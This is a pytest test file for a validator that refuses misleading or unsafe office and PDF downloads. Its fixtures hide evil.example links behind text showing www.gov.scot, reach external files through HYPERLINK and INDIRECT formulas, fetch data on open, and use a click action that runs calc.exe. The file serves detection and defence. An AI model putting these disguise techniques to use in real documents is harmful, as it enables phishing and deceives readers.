    for drawn in (b"BT /F1 14 Tf 72 700 Td (Read the guidance at www.gov.scot.evil.example today) Tj ET",
                  b"BT /F1 24 Tf 72 700 Td (www.gov.scot.evil.example) Tj ET 1 1 1 rg BT /F1 9 Tf 72 90 Td (note) Tj ET",
                  b"0 0 0.4 rg 60 690 500 50 re f 1 1 1 rg BT /F1 24 Tf 72 700 Td (www.gov.scot.evil.example) Tj ET"):
        assert pdf_problem(drawn_link_pdf(drawn)) is None, drawn


class FakeStream:
    def __init__(self, data: bytes):
        self.data = data

    def get_data(self) -> bytes:
        return self.data


@pytest.mark.parametrize("name", ["report.pdf", "report-pdfa.pdf", "report.odt", "report.docx", "sheet.xlsx",
                                  "sheet.ods", "wrapped-phone.pdf"])
def test_honest_files_libreoffice_writes_pass(name):
    """Thirty-fourth round: every PDF LibreOffice exports, PDF/A too, was refused as unreadable (its stream lengths
    are objects of their own, which pikepdf gives as Python numbers). Files it wrote, with links, must pass."""
    from conftest import REPO
    from resource_library.files import data_problem
    data = (REPO / "tests" / "fixtures" / "libreoffice" / name).read_bytes()
    assert data_problem(data, name.rsplit(".", 1)[1]) is None


def test_a_form_model_or_an_address_in_any_attribute_of_an_opendocument_is_read():
    """Thirty-fourth round: LibreOffice fetched an XForms instance's `src` as the file opened, with no click; a
    bibliography entry showed gov.scot and linked (`text:url`) to another site."""
    from resource_library.files import office_problem
    model = ('<office:body><office:text><office:forms><xforms:model xmlns:xforms="http://www.w3.org/2002/xforms">'
             '<xforms:instance src="http://127.0.0.1:8765/i.xml"/></xforms:model></office:forms></office:text>'
             "</office:body>")
    assert "has a form model that reaches `http://127.0.0.1:8765/i.xml` (XForms `instance`)" in \
        office_problem(odt(model), "odt")
    entry = ('<office:body><office:text><text:p><text:bibliography-mark text:bibliography-type="www" '
             'text:url="https://evil.example/p">https://www.gov.scot/publications/x</text:bibliography-mark></text:p>'
             "</office:text></office:body>")
    assert "has a link to `https://evil.example/p` whose text shows `www.gov.scot`" in office_problem(odt(entry), "odt")
    assert office_problem(odt(entry.replace("https://evil.example/p", "https://www.gov.scot/publications/x")),
                          "odt") is None


def test_a_mail_merge_or_an_xml_map_bound_to_a_file_is_refused():
    """Thirty-fourth round's files tester named these as gaps: Word runs a mail merge's query on its data source as
    the document opens; an Excel XML map bound to a file reads it when refreshed."""
    from resource_library.files import office_problem
    merge = package({"word/settings.xml": f'<w:settings {W_NS}><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
                     '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\host\\s\\d.xlsx"/>'
                     "</w:mailMerge></w:settings>"})
    assert "has a mail merge" in office_problem(merge, "docx")
    bound = package({"xl/xmlMaps.xml": f'<MapInfo {X_NS}><Map ID="1" Name="m"><DataBinding FileBinding="true" '
                     'FileBindingName="\\\\host\\s\\d.xml" DataBindingLoadMode="1"/></Map></MapInfo>'})
    assert "an XML map bound to another file" in office_problem(bound, "xlsx")


def test_a_pdf_links_whole_rectangle_is_read_as_pdfium_clicks_it():
    """Thirty-fifth round: `/QuadPoints` over blank space, the rectangle over `https://www.gov.scot/`: PDFium (Chrome,
    Edge) clicks the whole rectangle, pdf.js the parts, so the text under both is read."""
    import pikepdf
    from resource_library.files import pdf_problem
    pdf = pikepdf.open(io.BytesIO(pdf_with_links([("Guidance: https://www.gov.scot/", 72)],
                                                 [(EVIL, [60, 690, 560, 740], "")])))
    pdf.pages[0].Annots[0].QuadPoints = [400, 100, 420, 100, 400, 90, 420, 90]
    out = io.BytesIO()
    pdf.save(out)
    assert f"has a link to `{EVIL}` {SHOWS_GOV}" in pdf_problem(out.getvalue())


def test_a_formula_in_an_editors_csv_is_said_at_its_row_with_the_spreadsheets_hint(tmp_path):
    """Thirty-fifth round: refused rightly, but at line 1 and with the PDF's hint."""
    from resource_library.validate import check_project
    project = make_project(tmp_path / "p", content={"docs/about/data.csv": "a,b\n1,2\n=1+1,2\n"})
    (found,) = [p for p in check_project(project)[1] if p.path == "docs/about/data.csv"]
    assert (found.line, found.rule) == (3, "unsafe-file") and "Put a ' before it" in found.hint, found


@pytest.mark.parametrize("formula, says", [
    ('HYPERLINK("https://www.gov.scot"&".evil.example/","www.gov.scot")', "write the address in one string"),
    ('HYPERLINK("tel:+441316234300"&"9";"0131 623 4300")', "write the address in one string"),
    ('HYPERLINK("https://evil.example/";"www."&"gov.scot")', "write what the link shows in one string"),
    ('HYPERLINK("https://evil.example/";A2)', "write what the link shows in one string"),
])
def test_a_hyperlinks_address_and_text_are_each_one_string(formula, says):
    """Thirty-sixth round: only the first string after HYPERLINK( was read as the address, and only a string as
    what the cell shows; LibreOffice went to https://www.gov.scot.evil.example/ from a cell showing www.gov.scot."""
    from resource_library.files import _formula_problem
    assert says in _formula_problem(formula)
    assert _formula_problem('HYPERLINK( "https://www.gov.scot/" , "gov.scot" )&" more"') is None


def test_a_field_inside_a_hyperlinks_address_is_refused():
    """Thirty-sixth round: Word puts a nested field's result into the outer field's code, so
    `{ HYPERLINK "https://www.gov.scot{ QUOTE ".evil.example/" }" }` would go to www.gov.scot.evil.example."""
    from resource_library.files import office_problem
    nested = word("word/document.xml", '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                  ' HYPERLINK "https://www.gov.scot</w:instrText></w:r>' + field(' QUOTE ".evil.example/" ')[5:-6]
                  + '<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                  '<w:r><w:t>www.gov.scot</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    assert "has a field inside a HYPERLINK field's address" in office_problem(nested, "docx")


def test_what_a_link_shows_is_read_as_drawn_hidden_runs_and_number_formats_too():
    """Thirty-seventh round: a hidden run (`w:vanish`, a style with `text:display="none"`) split `www.gov.scot` for
    the check and not for the reader; a number format's own text (`"www.gov.scot "@`) was drawn beside a linked
    cell's value."""
    from resource_library.files import office_problem
    hidden = ('<w:r><w:rPr><w:vanish/></w:rPr><w:t>_</w:t></w:r>')
    document = word_body(f'<w:p><w:hyperlink r:id="rId7"><w:r><w:t>www.gov</w:t></w:r>{hidden}<w:r><w:t>.scot</w:t>'
                         "</w:r></w:hyperlink></w:p>")
    assert SHOWS_BARE in office_problem(document, "docx")
    style = ('<office:automatic-styles xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"><style:style '
             'style:name="H" style:family="text"><style:text-properties text:display="none"/></style:style>'
             "</office:automatic-styles>")
    odt_hidden = odt(style + f'<office:body><office:text><text:p><text:a xlink:type="simple" xlink:href="{EVIL}">'
                     'www.gov<text:span text:style-name="H">_</text:span>.scot</text:a></text:p></office:text>'
                     "</office:body>")
    assert SHOWS_BARE in office_problem(odt_hidden, "odt")
    formats = package({"xl/styles.xml": f'<styleSheet {X_NS}><numFmts count="1"><numFmt numFmtId="164" '
                       'formatCode="&quot;www.gov.scot &quot;@"/></numFmts></styleSheet>'})
    assert "has a number format that shows `gov.scot` beside a cell's value" in office_problem(formats, "xlsx")
    assert office_problem(package({"xl/styles.xml": f'<styleSheet {X_NS}><numFmts count="1"><numFmt numFmtId="164" '
                                   'formatCode="&quot;£&quot;#,##0.00"/></numFmts></styleSheet>'}), "xlsx") is None


def test_a_folder_or_a_name_with_no_extension_is_said_as_what_it_is():
    """Thirty-eighth round: `file: files/` was said to be "a `.?` file"."""
    from resource_library.files import type_problem
    assert type_problem("files/").startswith("names a folder, not a file")
    assert type_problem("files/checklist").startswith("has no extension")
    assert type_problem("files/x.exe").startswith("is a `.exe` file")
    assert type_problem("files/checklist.pdf") is None


def test_a_csv_reaching_another_file_through_indirect_is_refused_and_utf16_is_said_as_such():
    """Thirty-ninth round: `+INDIRECT("'https://evil.example/x.ods'#$Sheet1.A1")` passed, though the same reference
    written directly was refused; a UTF-16 CSV was said to hold binary data, with a hint about PDFs."""
    from resource_library.files import csv_formula_problem, text_problem
    for cell in ('+INDIRECT("\'https://evil.example/x.ods\'#$Sheet1.A1")', '-indirect(CHAR(91)&"x.xlsx]S!A1")'):
        assert "run as a formula" in csv_formula_problem(f'a,b\nx,"{cell.replace(chr(34), chr(34) * 2)}"\n'.encode())
    for honest in ("+1+1", "-5", "+44 131 623 4300", "- pending | review"):
        assert csv_formula_problem(f"a,b\nx,{honest}\n".encode()) is None, honest
    assert "saved as UTF-16" in text_problem("a,b\nx,1\n".encode("utf-16"), "csv")
    assert text_problem(b"a\0b", "csv") == "is not CSV: it holds binary data"


def type3_pdf(glyph: bytes) -> bytes:
    """A page showing `R` in a Type3 font whose glyph `R` is drawn by `glyph`, under a link to evil.example."""
    import pikepdf
    from pikepdf import Dictionary, Name
    pdf = pikepdf.new()
    helvetica = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    font = pdf.make_indirect(Dictionary(
        Type=Name.Font, Subtype=Name.Type3, FontBBox=[0, 0, 1000, 1000], FontMatrix=[0.001, 0, 0, 0.001, 0, 0],
        CharProcs=Dictionary(R=pdf.make_stream(glyph)), Encoding=Dictionary(Type=Name.Encoding, Differences=[82, Name.R]),
        FirstChar=82, LastChar=82, Widths=[1000], Resources=Dictionary(Font=Dictionary(H=helvetica))))
    return _one_linked_page(pdf, (612, 792), Dictionary(Font=Dictionary(F1=font)),
                            b"BT /F1 24 Tf 72 700 Td (R) Tj ET", [60, 690, 560, 740], "https://evil.example/")


def _one_linked_page(pdf, size, resources, contents: bytes, rect, uri: str) -> bytes:
    """`pdf` with one page of `contents`, a link over `rect` to `uri`, saved."""
    from pikepdf import Array, Dictionary, Name, String
    page = pdf.add_blank_page(page_size=size)
    page.Resources = resources
    page.Contents = pdf.make_stream(contents)
    page.Annots = pdf.make_indirect(Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=rect, Border=[0, 0, 0], A=Dictionary(S=Name.URI, URI=String(uri))))]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_an_office_add_in_is_refused():
    """Forty-first round: a document whose add-in pane opens with it, loading a web page from another site."""
    from resource_library.files import office_problem
    document = with_part(word_link("Read more", "https://www.gov.scot/"), "word/webextensions/taskpanes.xml",
                         (XML + '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/'
                          'taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1" width="350" row="4"/>'
                          "</wetp:taskpanes>").encode())
    refused = office_problem(document, "docx")
    assert refused is not None and "holds an Office add-in (`word/webextensions/taskpanes.xml`)" in refused, refused


def test_a_type3_glyph_that_draws_text_is_refused_and_a_bitmap_glyph_is_not():
    """Forty-first round: a Type3 glyph named `R` drew `https://www.gov.scot/` in Helvetica under a link to
    evil.example, and was read as `R`. A bitmap glyph (old LaTeX's) or a drawn one is no text."""
    from resource_library.files import pdf_problem
    refused = pdf_problem(type3_pdf(b"1000 0 d0 BT /H 100 Tf 0 0 Td (https://www.gov.scot/) Tj ET"))
    assert refused is not None and "Type3 font whose glyph `R` draws text, a pattern or a mask of its own" in refused, refused
    assert pdf_problem(type3_pdf(b"1000 0 0 0 1000 1000 d1 q 1000 0 0 1000 0 0 cm BI /W 2 /H 2 /BPC 1 /IM true ID "
                                 b"\x00BT Tj\x00 EI Q")) is None
    assert pdf_problem(type3_pdf(b"1000 0 0 0 1000 1000 d1 0 0 m 1000 1000 l S")) is None


def bookmarked_pdf(*actions, title: str = "www.gov.scot - official guidance") -> bytes:
    """A one-page PDF with a bookmark per action (None: one that goes to the
    page), listed as the file opens (/PageMode /UseOutlines)."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(612, 792))
    page = pdf.pages[0].obj
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
    items = []
    for action in actions:
        item = pdf.make_indirect(Dictionary(Title=String(title), Parent=outlines))
        if action is None:
            item.Dest = Array([page, Name.Fit])
        else:
            item.A = action(pdf, page)
        if items:
            items[-1].Next, item.Prev = item, items[-1]
        items.append(item)
    outlines.First, outlines.Last, outlines.Count = items[0], items[-1], len(items)
    pdf.Root.Outlines = outlines
    pdf.Root.PageMode = Name.UseOutlines
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _uri(address):
    from pikepdf import Dictionary, Name, String
    return lambda pdf, page: Dictionary(S=Name.URI, URI=String(address))


def _goto_then(then):
    from pikepdf import Array, Dictionary, Name
    return lambda pdf, page: Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=then(pdf, page))


def _shared(pdf, page):
    from pikepdf import Dictionary, Name, String
    return pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://evil.example/login")))


@pytest.mark.parametrize("actions", [
    (_uri("https://evil.example/login"),),
    (None, _uri("https://www.gov.scot@evil.example/")),
    (_goto_then(_uri("https://evil.example/")),),
    # `/Next` as an array of actions, the address in the second.
    (lambda pdf, page: _goto_then(lambda p, q: __import__("pikepdf").Array(
        [_goto_then(lambda *a: None)(p, q), _uri("https://evil.example/")(p, q)]))(pdf, page),),
    (_shared, _shared),
], ids=["address", "second bookmark", "after going to a page", "in an array of next actions", "one action twice"])
def test_a_pdf_bookmark_that_opens_an_address_is_refused(actions):
    """Forty-third round: a bookmark titled `www.gov.scot - official guidance`
    opened evil.example, listed as the file opened, and was published:
    nothing compares a bookmark's title with where it goes."""
    from resource_library.files import data_problem
    said = data_problem(bookmarked_pdf(*actions), "pdf")
    assert said and "has a bookmark that opens `https://" in said and "evil.example" in said, said


def test_bookmarks_that_go_to_pages_are_published():
    """As Word, LibreOffice and LaTeX write them: a destination, or a GoTo."""
    from pikepdf import Array, Dictionary, Name
    from resource_library.files import data_problem
    assert data_problem(bookmarked_pdf(None, None, title="1. Method"), "pdf") is None
    goto = lambda pdf, page: Dictionary(S=Name.GoTo, D=Array([page, Name.XYZ, 0, 792, 0]))  # noqa: E731
    assert data_problem(bookmarked_pdf(goto, title="2. Results"), "pdf") is None


# Forty-fourth round: letters drawn unseen by a style, not by properties written where they are.
STYLED_GAP = ('<w:p>{paragraph}<w:hyperlink r:id="rId7"><w:r><w:t>www.gov</w:t></w:r><w:r>{run}<w:t>_</w:t></w:r>'
              '<w:r><w:t>.scot</w:t></w:r></w:hyperlink></w:p>')


def styled_word(styles: str, run: str = '<w:rPr><w:rStyle w:val="Gap"/></w:rPr>', paragraph: str = "",
                body: str = STYLED_GAP, styles_at: str = "word/styles.xml") -> bytes:
    """A Word file whose link reads `www.gov_.scot`, with a styles part
    (found, as Word finds it, by its relationship) holding `styles`."""
    document = f"<w:document {W_NS} {R_NS}><w:body>{body.format(paragraph=paragraph, run=run)}</w:body></w:document>"
    styles_name = styles_at.split("/", 1)[1]
    return package({
        "word/document.xml": document, f"{styles_at}": f"<w:styles {W_NS}>{styles}</w:styles>",
        "word/_rels/document.xml.rels": relationships(
            f'Id="rId7" Type="{HYPERLINK}" Target="{EVIL}" TargetMode="External"',
            f'Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
            f'Target="{styles_name}"')})


def gap_style(kind: str, properties: str, name: str = "Gap", based: str = "") -> str:
    on = f'<w:basedOn w:val="{based}"/>' if based else ""
    return f'<w:style w:type="{kind}" w:styleId="{name}"><w:name w:val="{name}"/>{on}<w:rPr>{properties}</w:rPr></w:style>'


def sheet_text(cell: str, extra_parts: dict | None = None) -> bytes:
    """A sheet whose A1, linked to evil.example, is `cell`."""
    document = linked("xl/worksheets/sheet1.xml", f'<worksheet {X_NS} {R_NS}><sheetData><row r="1">{cell}</row>'
                      f'</sheetData><hyperlinks><hyperlink ref="A1" r:id="rId7"/></hyperlinks></worksheet>', EVIL)
    for name, xml in (extra_parts or {}).items():
        document = with_part(document, name, (XML + xml).encode())
    return document


ODF_STYLE = "urn:oasis:names:tc:opendocument:xmlns:style:1.0"
ODF_FO = "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"


def odf_styled(common: str, automatic: str = "", span: str = "Tiny", paragraph: str = "",
               text: str = "www.gov<text:span text:style-name=\"{span}\">_</text:span>.scot") -> bytes:
    """An OpenDocument text whose link reads `www.gov_.scot`, the `_` in a
    span of style `span`, with `common` styles in styles.xml."""
    styles_xml = (XML + f'<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                  f'xmlns:style="{ODF_STYLE}" xmlns:fo="{ODF_FO}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:'
                  f'text:1.0"><office:styles>{common}</office:styles></office:document-styles>')
    named = f' text:style-name="{paragraph}"' if paragraph else ""
    return odt(f'<office:automatic-styles xmlns:style="{ODF_STYLE}" xmlns:fo="{ODF_FO}">{automatic}'
               f'</office:automatic-styles><office:body><office:text><text:p{named}><text:a xlink:type="simple" '
               f'xlink:href="{EVIL}">{text.format(span=span)}</text:a></text:p>'
               "</office:text></office:body>", {"styles.xml": styles_xml})


def odf_style(name: str, properties: str, family: str = "text", parent: str = "") -> str:
    based = f' style:parent-style-name="{parent}"' if parent else ""
    return (f'<style:style style:name="{name}" style:family="{family}"{based}>'
            f"<style:text-properties {properties}/></style:style>")


UNSEEN_BY_STYLE = [
    ("a character style that hides", "docx", styled_word(gap_style("character", "<w:vanish/>"))),
    ("a character style based on a white one", "docx", styled_word(
        gap_style("character", '<w:color w:val="FFFFFF"/>', "White") + gap_style("character", "<w:b/>", based="White"))),
    ("a character style in points", "docx", styled_word(gap_style("character", '<w:sz w:val="2"/>'))),
    ("the page's theme colour", "docx", styled_word("", run='<w:rPr><w:color w:val="000000" '
                                                    'w:themeColor="background1"/></w:rPr>')),
    ("a paragraph style, the rest of the link in its own colour", "docx", styled_word(
        gap_style("paragraph", '<w:vanish/>', "Quiet"), run="",
        paragraph='<w:pPr><w:pStyle w:val="Quiet"/></w:pPr>',
        body=STYLED_GAP.replace("<w:r><w:t>www.gov", '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>www.gov').replace(
            "<w:r><w:t>.scot", '<w:r><w:rPr><w:vanish w:val="false"/></w:rPr><w:t>.scot'))),
    ("a styles part with another name", "docx", styled_word(gap_style("character", "<w:vanish/>"),
                                                            styles_at="word/a.xml")),
    ("a HYPERLINK field's result", "docx", styled_word(gap_style("character", "<w:vanish/>"), body=(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "{EVIL}" </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>www.gov</w:t></w:r><w:r><w:rPr><w:rStyle '
        'w:val="Gap"/></w:rPr><w:t>_</w:t></w:r><w:r><w:t>.scot</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        "</w:r></w:p>"))),
    ("a squeezed run", "docx", styled_word("", run='<w:rPr><w:fitText w:val="1" w:id="5"/></w:rPr>')),
    ("rich shared text in 1-point white", "xlsx", sheet_text('<c r="A1" t="s"><v>0</v></c>', {
        "xl/sharedStrings.xml": f'<sst {X_NS}><si><r><t>www.gov</t></r><r><rPr><sz val="1"/><color rgb="FFFFFFFF"/>'
                                "</rPr><t>_</t></r><r><t>.scot</t></r></si></sst>"})),
    ("a cell's own rich text in white", "xlsx", sheet_text(
        '<c r="A1" t="inlineStr"><is><r><t>www.gov</t></r><r><rPr><color rgb="FFFFFFFF"/></rPr><t>_</t></r>'
        "<r><t>.scot</t></r></is></c>")),
    ("a number format's bracketed text", "xlsx", sheet_text('<c r="A1" s="1"><v>0</v></c>', {
        "xl/styles.xml": f'<styleSheet {X_NS}><numFmts count="1"><numFmt numFmtId="164" '
                         'formatCode="[$www.gov.scot]"/></numFmts></styleSheet>'})),
    ("a common style", "odt", odf_styled(odf_style("Tiny", 'fo:font-size="0.5pt" fo:color="#ffffff"'))),
    ("an automatic style based on a common one", "odt", odf_styled(
        odf_style("Tiny", 'fo:font-size="0.5pt"'), odf_style("T1", 'fo:font-weight="bold"', parent="Tiny"), span="T1")),
    ("a paragraph's style", "odt", odf_styled(
        odf_style("Quiet", 'fo:color="#fefefe"', family="paragraph") + odf_style("Dark", 'fo:color="#000000"'),
        paragraph="Quiet", text='<text:span text:style-name="Dark">www.gov</text:span>_'
                                '<text:span text:style-name="Dark">.scot</text:span>')),
]


@pytest.mark.parametrize("case, ext, document", UNSEEN_BY_STYLE, ids=[c[0] for c in UNSEEN_BY_STYLE])
def test_letters_a_style_draws_unseen_are_not_read_as_a_links_text(case, ext, document):
    from resource_library.files import data_problem
    said = data_problem(document, ext)
    assert said and ("gov.scot" in said), said


def test_styles_that_draw_letters_to_be_seen_leave_a_link_as_it_reads():
    """The same documents with styles a reader sees: bold, a colour, a size."""
    from resource_library.files import data_problem
    readable = ('<w:p><w:hyperlink r:id="rId7"><w:r><w:t>Read the</w:t></w:r><w:r>{run}<w:t> guidance</w:t></w:r>'
                "</w:hyperlink></w:p>")
    honest = [
        ("docx", styled_word(gap_style("character", '<w:b/><w:color w:val="1F4E79"/><w:sz w:val="24"/>'),
                             body=readable)),
        ("odt", odf_styled(odf_style("Tiny", 'fo:font-size="11pt" fo:color="#1f4e79"'),
                           text='Read <text:span text:style-name="{span}">the</text:span> guidance')),
    ]
    for ext, document in honest:
        assert data_problem(document, ext) is None, ext


def test_a_misleading_link_in_a_download_is_told_how_to_fix_it(tmp_path):
    """Forty-fourth round: the hint was to export the file again, which
    leaves a link's text as it was."""
    project = make_project(tmp_path / "p", content={
        "at-a-glance/case.md": GOOD.replace("status: current", "status: current\ndownloads:\n"
                                            "  - file: files/guide.docx\n    label: The guide"),
        "at-a-glance/files/guide.docx": word_link("www.gov.scot", EVIL)})
    result = run_cli(project, "validate")
    assert result.returncode == 1
    assert re.search(r"^at-a-glance/case.md:\d+:\d+ \[unsafe-file\] downloads, item 1: file: `files/guide.docx` has "
                     r"a link to `https://evil.example/login` whose text shows `gov.scot`", result.stderr, re.M), \
        result.stderr
    assert "hint: A reader trusts an address they can read: in the program that made the file, make the link's text " \
           "say where it goes" in result.stderr


def _slide_runs(*runs: tuple[str, str], list_style: str = "") -> bytes:
    """A slide shape whose paragraph holds `runs` ((text, extra rPr
    attributes and children)), each linked to evil.example."""
    xml = "".join(f'<a:r><a:rPr{attributes}>{children}<a:hlinkClick r:id="rId7"/></a:rPr><a:t>{text}</a:t></a:r>'
                  for text, attributes, children in runs)
    return slide_shape(f"<p:sp><p:txBody>{list_style}<a:p>{xml}</a:p></p:txBody></p:sp>")


TINY_LIST = '<a:lstStyle><a:lvl1pPr><a:defRPr sz="100"/></a:lvl1pPr></a:lstStyle>'


@pytest.mark.parametrize("document", [
    # Forty-fifth round: runs that link to one address are one link to a reader, read together.
    _slide_runs(("gov", "", ""), (".scot", "", "")),
    # A text body's list style makes the `_` 1 point; the runs about it say 18.
    _slide_runs(("gov", ' sz="1800"', ""), ("_", "", ""), (".scot", ' sz="1800"', ""), list_style=TINY_LIST),
    _slide_runs(("gov", "", ""), ("_", "", "<a:noFill/>"), (".scot", "", "")),
    _slide_runs(("gov", "", ""), ("_", "", '<a:solidFill><a:schemeClr val="bg1"/></a:solidFill>'), (".scot", "", "")),
], ids=["two runs", "a list style's size", "no fill", "the background's colour"])
def test_a_slides_link_is_read_whole_as_its_text_body_draws_it(document):
    from resource_library.files import data_problem
    said = data_problem(document, "pptx")
    assert said and "whose text shows `gov.scot`" in said, said


def test_a_slides_honest_link_over_runs_passes():
    from resource_library.files import data_problem
    assert data_problem(_slide_runs(("Read the ", "", ""), ("guidance", ' b="1"', "")), "pptx") is None


def test_links_beside_each_other_to_one_address_are_read_as_one():
    """Forty-fifth round's slides, in Word and OpenDocument: `gov` and `.scot`,
    two links to evil.example side by side, show `gov.scot` as one link."""
    from resource_library.files import data_problem

    def word_links(*texts):
        return word_body("<w:p>" + "".join(f'<w:hyperlink r:id="rId7"><w:r><w:t>{text}</w:t></w:r></w:hyperlink>'
                                           for text in texts) + "</w:p>")

    def odt_links(*texts):
        return odt("<office:body><office:text><text:p>" + "".join(
            f'<text:a xlink:type="simple" xlink:href="{EVIL}">{text}</text:a>' for text in texts)
            + "</text:p></office:text></office:body>")

    assert "whose text shows `gov.scot`" in data_problem(word_links("gov", ".scot"), "docx")
    assert "whose text shows `gov.scot`" in data_problem(odt_links("gov", ".scot"), "odt")
    assert data_problem(word_links("Read the", " guidance"), "docx") is None
    assert data_problem(odt_links("Read the", " guidance"), "odt") is None


def test_words_that_run_into_a_link_are_read_with_it_as_on_the_pages():
    """Forty-fifth round: `www.gov` as text and `.scot` as a link to
    evil.example read `www.gov.scot` to a reader, as `www.gov[.scot](...)`
    does on a page."""
    from resource_library.files import data_problem
    run = "<w:r><w:t>{}</w:t></w:r>"
    word_link_xml = '<w:hyperlink r:id="rId7"><w:r><w:t>{}</w:t></w:r></w:hyperlink>'

    def odt_paragraph(before, text, after):
        return odt(f'<office:body><office:text><text:p>{before}<text:a xlink:type="simple" xlink:href="{EVIL}">{text}'
                   f"</text:a>{after}</text:p></office:text></office:body>")

    slide = ('<p:sp><p:txBody><a:p><a:r><a:t>{}</a:t></a:r><a:r><a:rPr><a:hlinkClick r:id="rId7"/></a:rPr>'
             "<a:t>{}</a:t></a:r></a:p></p:txBody></p:sp>")
    misled = [("docx", word_body("<w:p>" + run.format("Visit www.gov") + word_link_xml.format(".scot") + "</w:p>")),
              ("odt", odt_paragraph("Visit www.gov", ".scot", " today")),
              ("pptx", slide_shape(slide.format("Visit www.gov", ".scot")))]
    for ext, document in misled:
        said = data_problem(document, ext)
        assert said and "with the words beside it, reads `gov.scot`" in said, (ext, said)
    honest = [("docx", word_body("<w:p>" + run.format("See the guidance on ") + word_link_xml.format("our page")
                                 + run.format(" today.") + "</w:p>")),
              ("odt", odt_paragraph("See the guidance on ", "our page", " today.")),
              ("pptx", slide_shape(slide.format("See the guidance on ", "our page")))]
    for ext, document in honest:
        assert data_problem(document, ext) is None, ext


CLEAR_SHAPE = ('<p:sp><p:nvSpPr><p:cNvPr id="3" name="Over"><a:hlinkClick r:id="rId7"/></p:cNvPr></p:nvSpPr>'
               "<p:spPr>{fill}</p:spPr><p:txBody><a:p/></p:txBody></p:sp>")
WORDS_UNDER = '<p:sp><p:txBody><a:p><a:r><a:t>www.gov.scot</a:t></a:r></a:p></p:txBody></p:sp>'


@pytest.mark.parametrize("fill", ["<a:noFill/>", '<a:solidFill><a:srgbClr val="FFFFFF"><a:alpha val="0"/></a:srgbClr>'
                                  "</a:solidFill>", ""], ids=["no fill", "a clear fill", "no fill said"])
def test_a_link_on_a_shape_that_draws_nothing_is_refused(fill):
    """Forty-fifth round: a clear shape over the words `www.gov.scot`,
    linked to evil.example, was published; what shows through a shape is
    not read."""
    from resource_library.files import data_problem
    said = data_problem(slide_shape(WORDS_UNDER + CLEAR_SHAPE.format(fill=fill)), "pptx")
    assert said and "on a shape that draws nothing of its own" in said, said


def test_a_linked_button_picture_or_chart_draws_itself():
    from resource_library.files import data_problem
    button = CLEAR_SHAPE.format(fill='<a:solidFill><a:srgbClr val="1F4E79"/></a:solidFill>').replace(
        "<a:p/>", "<a:p><a:r><a:t>Register</a:t></a:r></a:p>")
    picture = ('<p:pic><p:nvPicPr><p:cNvPr id="4" name="Logo" descr="Scottish Government logo"><a:hlinkClick '
               'r:id="rId7"/></p:cNvPr></p:nvPicPr><p:blipFill><a:blip r:embed="rId9"/></p:blipFill><p:spPr/></p:pic>')
    filled = CLEAR_SHAPE.format(fill='<a:solidFill><a:srgbClr val="1F4E79"/></a:solidFill>')
    for shape in (button, picture, filled):
        assert data_problem(slide_shape(WORDS_UNDER + shape), "pptx") is None, shape


PRESENTATION_NS = ('xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
                   'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"')


def odp_click(listener: str) -> bytes:
    return odt(f"<office:body><office:presentation><draw:page><draw:custom-shape><office:event-listeners "
               f"{PRESENTATION_NS}>{listener}</office:event-listeners><text:p>Next</text:p></draw:custom-shape>"
               "</draw:page></office:presentation></office:body>")


def test_impress_click_actions_that_move_within_the_presentation_pass_and_others_are_named():
    """Forty-sixth round: LibreOffice's "go to next slide" was refused as a macro."""
    from resource_library.files import data_problem
    for action in ('presentation:action="next-page"', 'presentation:action="show" xlink:href="#Slide 3"',
                   'presentation:action="stop"'):
        assert data_problem(odp_click(f'<presentation:event-listener script:event-name="dom:click" {action}/>'),
                            "odp") is None, action
    said = data_problem(odp_click('<presentation:event-listener script:event-name="dom:click" presentation:action='
                                  '"execute" xlink:href="file:///c:/windows/calc.exe"/>'), "odp")
    assert said.startswith("has a click action (`execute` to `file:///c:/windows/calc.exe`)"), said
    said = data_problem(odp_click('<script:event-listener script:language="ooo:script" script:event-name="dom:click" '
                                  'xlink:href="vnd.sun.star.script:x"/>'), "odp")
    assert said.startswith("holds macros"), said


def test_a_hyperlink_formulas_saved_value_is_read_as_its_text():
    """Forty-sixth round: `HYPERLINK("https://evil.example/")` saved as
    `www.gov.scot`, which Excel and LibreOffice show until they work it out
    again, was published."""
    from resource_library.files import data_problem

    def sheet(cell):
        return package({"xl/worksheets/sheet1.xml": f'<worksheet {X_NS}><sheetData><row r="1">{cell}</row>'
                                                    "</sheetData></worksheet>"})

    said = data_problem(sheet('<c r="A1" t="str"><f>HYPERLINK("https://evil.example/","Council page")</f>'
                              "<v>www.gov.scot</v></c>"), "xlsx")
    assert said and "whose text shows `gov.scot`" in said, said
    said = data_problem(sheet('<c r="A1" t="s"><f>HYPERLINK("https://evil.example/")</f><v>0</v></c>'), "xlsx")
    assert said and "kept apart from it, as shared text" in said, said
